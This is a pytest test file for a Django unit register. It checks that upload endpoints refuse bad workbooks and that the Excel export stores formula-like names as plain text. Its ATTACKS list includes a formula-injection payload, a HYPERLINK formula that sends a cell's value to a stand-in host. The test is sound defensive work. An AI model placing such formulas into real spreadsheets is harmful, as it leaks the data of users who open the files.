"""Issue 13: the register's export keeps stored text as text; its three upload endpoints refuse bad files."""

from __future__ import annotations

import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from khoi.core.tests import bad_workbooks
from khoi.units.models import Unit

from .conftest import make_workbook
from .factories import make_unit

pytestmark = pytest.mark.django_db

ENDPOINTS = ["/units/import/", "/api/v1/units/import/validate/", "/api/v1/units/import/commit/"]
ATTACKS = ['=HYPERLINK("http://x.example/?p="&C4,"Xem")', "+84 912", "-1", "@SUM(A1)", "\tTab"]


def _post(client, url, content):
    return client.post(url, {"file": SimpleUploadedFile("ds.xlsx", content)})


@pytest.mark.parametrize("url", ENDPOINTS)
@pytest.mark.parametrize("kind", sorted(bad_workbooks.BAD_FILES))
def test_a_bad_file_gets_a_vietnamese_message_and_imports_nothing(staff_client, bloc, url, kind):
    before = Unit.objects.count()
    response = _post(staff_client, url, bad_workbooks.BAD_FILES[kind]())
    text = response.content.decode()
    assert response.status_code in (200, 400)
    expected = {
        "blank rows": "thiếu các cột",
        "no sheet": "không có trang tính",
        "encrypted": "mật khẩu",
        "corrupt": "hoặc đã bị hỏng",
    }[kind]
    assert expected in text
    assert Unit.objects.count() == before


@pytest.mark.parametrize("url", ENDPOINTS)
def test_a_file_over_the_size_limit_is_refused_before_it_is_read(staff_client, bloc, url, settings):
    settings.KHOI_UPLOAD_MAX_BYTES = 2000
    before = Unit.objects.count()
    response = _post(staff_client, url, bad_workbooks.over_size(2000))
    assert "lớn hơn" in response.content.decode()
    assert response.status_code in (200, 400)
    assert Unit.objects.count() == before


@pytest.mark.parametrize("url", ENDPOINTS)
def test_a_formula_without_a_computed_value_is_refused_by_its_cell(staff_client, bloc, url):
    content = make_workbook(
        [{"code": "I001", "name": "Chi bộ A", "kind": "Chi bộ cơ sở", "parent_code": "BLOC", "joined_on": "=TODAY()"}]
    )
    response = _post(staff_client, url, content)
    assert "là công thức chưa có giá trị" in response.content.decode()
    assert not Unit.objects.filter(code="I001").exists()


@pytest.mark.parametrize("name", ATTACKS)
def test_the_export_writes_a_formula_like_unit_name_as_the_text_typed(staff_client, bloc, name):
    make_unit(bloc, code="X1", name=name, address="Số 1\x01 Lê Lợi\x0b")
    response = staff_client.get("/units/export.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    row = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == "X1")
    assert row[1].data_type != "f" and row[1].value == name
    assert row[10].value == "Số 1 Lê Lợi"
